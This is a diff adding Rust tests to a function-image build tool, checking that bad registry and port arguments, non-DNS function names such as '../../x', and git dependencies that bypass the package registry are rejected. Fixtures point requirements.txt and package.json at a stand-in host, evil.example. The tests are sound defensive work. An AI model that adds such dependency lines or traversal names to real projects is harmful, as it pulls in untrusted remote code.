@@ -354,3 +354,133 @@ fn a_base_override_with_dependencies_and_no_builder_image_is_a_usage_error() {
     ])
     .reference();
 }
+
+/// Issue 10's bad input: each is exit 2 with the field named, before anything is dialled.
+#[test]
+fn malformed_destinations_bases_and_flags_are_usage_errors_naming_the_field() {
+    let s = setup();
+    let dir = s.fixture("hello-node");
+    let d = dir.to_str().unwrap();
+    let missing = s.work.path().join("no-such-layout");
+    let missing_base = format!("oci:{}:x", missing.display());
+    let empty = s.work.path().join("empty");
+    std::fs::create_dir(&empty).unwrap();
+    let empty_base = format!("oci:{}", empty.display());
+    let cases: Vec<(Vec<&str>, &str)> = vec![
+        (
+            vec!["--image", "127.0.0.1:5000"],
+            "names a registry host but no repository",
+        ),
+        (
+            vec!["--image", "reg.example:99999/team/x"],
+            "between 1 and 65535",
+        ),
+        (
+            vec!["--output", "oci:"],
+            "--output \"oci:\" names no directory",
+        ),
+        (
+            vec!["--output", "oci:./o", "--base", "oci:"],
+            "names no layout directory",
+        ),
+        (
+            vec!["--output", "oci:./o", "--base", &missing_base],
+            "is not an OCI image layout",
+        ),
+        (
+            vec!["--output", "oci:./o", "--base", &empty_base],
+            "is not an OCI image layout",
+        ),
+        (
+            vec![
+                "--output",
+                "oci:./o",
+                "--insecure-registry",
+                "http://127.0.0.1:5000",
+            ],
+            "give HOST[:PORT] only, e.g. --insecure-registry 127.0.0.1:5000",
+        ),
+        (
+            vec!["--output", "oci:./o", "--insecure-registry", "h:70000"],
+            "--insecure-registry \"h:70000\": the registry port must be between 1 and 65535",
+        ),
+    ];
+    for (extra, needle) in cases {
+        let mut args = vec!["build", d, "--runtime", "nodejs22"];
+        args.extend_from_slice(&extra);
+        let run = s.kiln.run(&args);
+        let err = run.failure(2);
+        assert!(err.contains(needle), "{extra:?}: {err}");
+    }
+}
+
+#[test]
+fn a_function_manifest_whose_name_is_not_a_dns_label_is_refused() {
+    let s = setup();
+    for name in ["../../x", "Hello", "a_b", "-x"] {
+        let file = s.work.path().join("fn.yaml");
+        std::fs::write(
+            &file,
+            format!(
+                "apiVersion: serverless.kyma-project.io/v1alpha2\nkind: Function\nmetadata:\n  name: {name:?}\nspec:\n  runtime: nodejs22\n  source:\n    inline:\n      source: 'module.exports = {{ main: () => 1 }}'\n"
+            ),
+        )
+        .unwrap();
+        let run = s.kiln.run(&[
+            "build",
+            "--function",
+            file.to_str().unwrap(),
+            "--output",
+            "oci:./o",
+        ]);
+        let err = run.failure(2);
+        assert!(
+            err.contains(&format!("metadata.name {name:?} is not a valid name")),
+            "{name}: {err}"
+        );
+    }
+}
+
+#[test]
+fn dependencies_that_bypass_the_package_registry_are_refused_unless_allowed() {
+    let s = setup();
+    let py = s.work.path().join("py");
+    std::fs::create_dir(&py).unwrap();
+    std::fs::write(
+        py.join("handler.py"),
+        "def main(event, context):\n    return 'x'\n",
+    )
+    .unwrap();
+    std::fs::write(
+        py.join("requirements.txt"),
+        "requests==2.32.3\n-e git+https://evil.example/x.git#egg=x\n",
+    )
+    .unwrap();
+    let err = s.build(&py, "python313", &[]).failure(2).to_string();
+    assert!(
+        err.contains("requirements.txt line 2") && err.contains("--allow-direct-deps"),
+        "{err}"
+    );
+    s.assert_nothing_pushed();
+    let node = s.fixture("hello-node");
+    std::fs::write(
+        node.join("package.json"),
+        "{\n  \"name\": \"x\",\n  \"dependencies\": {\n    \"x\": \"git+https://evil.example/x.git\"\n  }\n}\n",
+    )
+    .unwrap();
+    let err = s.build(&node, "nodejs22", &[]).failure(2).to_string();
+    assert!(
+        err.contains("package.json line 4") && err.contains("dependencies.x"),
+        "{err}"
+    );
+    // Allowed, the check is passed: what fails now is the install (evil.example does not
+    // resolve), not the manifest.
+    let run = s.build(&node, "nodejs22", &["--allow-direct-deps"]);
+    assert_ne!(run.code, 0);
+    assert!(
+        !run.stderr.contains("--allow-direct-deps"),
+        "{}",
+        run.stderr
+    );
+    s.assert_nothing_pushed();
+}
